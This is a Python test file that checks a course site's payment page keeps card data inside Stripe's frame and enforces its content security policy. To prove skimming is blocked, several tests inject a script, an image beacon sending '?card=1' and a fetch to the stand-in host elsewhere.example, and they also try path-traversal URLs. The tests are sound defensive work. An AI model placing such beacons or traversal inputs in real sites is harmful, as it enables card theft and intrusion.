"""SAQ A: the page runs only our scripts and Stripe's, never sees card numbers, and its content policy is enforced."""

import re
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from local import watch
from tests.stack.browser.student import Student
from tests.stack.conftest import Running


def csp_reports(running: Running) -> list[Any]:
    return list(running.http.get(f"{running.ready['api']}/_local/csp").json())


def test_only_our_scripts_and_stripe_s_are_loaded(student: Student) -> None:
    loaded: list[str] = []
    student.page.on("request", lambda request: request.resource_type == "script" and loaded.append(request.url))
    student.open_payment_form()
    expect(student.fields.get_by_label("Card number")).to_be_visible()
    own, stripe = student.running.ready["api"], student.running.ready["stripe"]
    in_page = {frame.url for frame in student.page.frames if frame.url.startswith(own)}
    assert in_page == {f"{own}/#/buy/DP"}
    foreign = sorted(url for url in loaded if not url.startswith(f"{own}/"))
    assert foreign == [f"{stripe}/_js/element.js", f"{stripe}/endive/stripe.js"]
    assert student.page.evaluate("Array.from(document.scripts).every(script => script.src)")


def test_a_card_number_is_typed_in_stripe_s_frame_and_never_reaches_our_page(student: Student) -> None:
    sent: list[str] = []
    own = student.running.ready["api"]
    student.page.on(
        "request", lambda request: request.url.startswith(own) and sent.append(f"{request.url} {request.post_data}")
    )
    student.open_payment_form()
    student.pay("4242424242424242")
    student.expect_enrolled()
    assert student.page.locator("input[autocomplete^=cc-]").count() == 0
    assert len(sent) > 5
    assert not [text for text in sent if "4242424242424242" in text or "4242 4242" in text]
    assert "4242 4242" not in student.page.content()


def test_an_injected_script_does_not_run_and_is_reported(student: Student) -> None:
    student.expected_errors.append("Content Security Policy")
    student.open()
    student.expect_heading("Choose your track")
    student.page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.skimmed = true';
            document.body.append(script);
            const image = new Image();
            image.src = 'https://elsewhere.example/?card=1';
            return fetch('https://elsewhere.example/').catch(() => null);
        }"""
    )
    reports = student.running.until(
        lambda: len(csp_reports(student.running)) >= 3 and csp_reports(student.running), "reports"
    )
    assert student.page.evaluate("window.skimmed") is None
    directives = {report["csp-report"]["effective-directive"] for report in reports}
    assert directives == {"script-src-elem", "img-src", "connect-src"}
    front = student.running.stack.web_server
    assert front is not None
    front.csp_reports.clear()


def test_every_file_has_the_content_policy_and_may_not_be_framed(running: Running) -> None:
    assert running.stack.web_server is not None
    site = running.stack.web_server.site
    assets = [f"/{path}" for path in site.files() if path.startswith("assets/")]
    for path in ("/", "/console/", "/config.json", "/icon.svg", *assets):
        response = running.http.get(running.ready["api"] + path)
        policy = response.headers["content-security-policy"]
        assert response.status_code == 200
        assert "unsafe" not in policy and "*" not in policy
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy
        assert response.headers["x-content-type-options"] == "nosniff"


def test_only_the_files_of_the_web_folder_are_served(running: Running) -> None:
    for path in ("/../template.yaml", "/%2e%2e/template.yaml", "/student/", "/student/../../Makefile", "/nothing.js"):
        assert running.http.get(running.ready["api"] + path).status_code == 404, path
    redirect = running.http.get(running.ready["api"] + "/console")
    assert (redirect.status_code, redirect.headers["location"]) == (301, "/console/")


def test_watch_accepts_our_pages_and_reports_every_change(running: Running, tmp_path: Path) -> None:
    front = running.stack.web_server
    assert front is not None
    original = front.site
    assert watch.main([running.ready["api"]]) == 0
    shutil.copytree(original.root, tmp_path / "web")
    app = tmp_path / "web" / "student" / "app.js"
    app.write_text(app.read_text() + "fetch('https://elsewhere.example/');\n")
    (tmp_path / "web" / "icon.svg").unlink()
    try:
        front.site = replace(original, root=tmp_path / "web", origins=replace(original.origins, calls=("https:",)))
        differences = list(watch.differences(running.ready["api"]))
        assert any(line.startswith("/ is another file") for line in differences)
        assert any(re.match("/assets/[0-9a-f]+/student/app.js is not served", line) for line in differences)
        assert any(line.startswith("/icon.svg is not served") for line in differences)
        assert any(line.startswith("/ comes with Content-Security-Policy") for line in differences)
        assert watch.main([running.ready["api"]]) == 1
        front.site = replace(original, config={**original.config, "stripe_js": "https://js.stripe.example/stripe.js"})
        assert list(watch.differences(running.ready["api"])) == [
            "config.json loads Stripe.js from https://js.stripe.example/stripe.js"
        ]
    finally:
        front.site = original
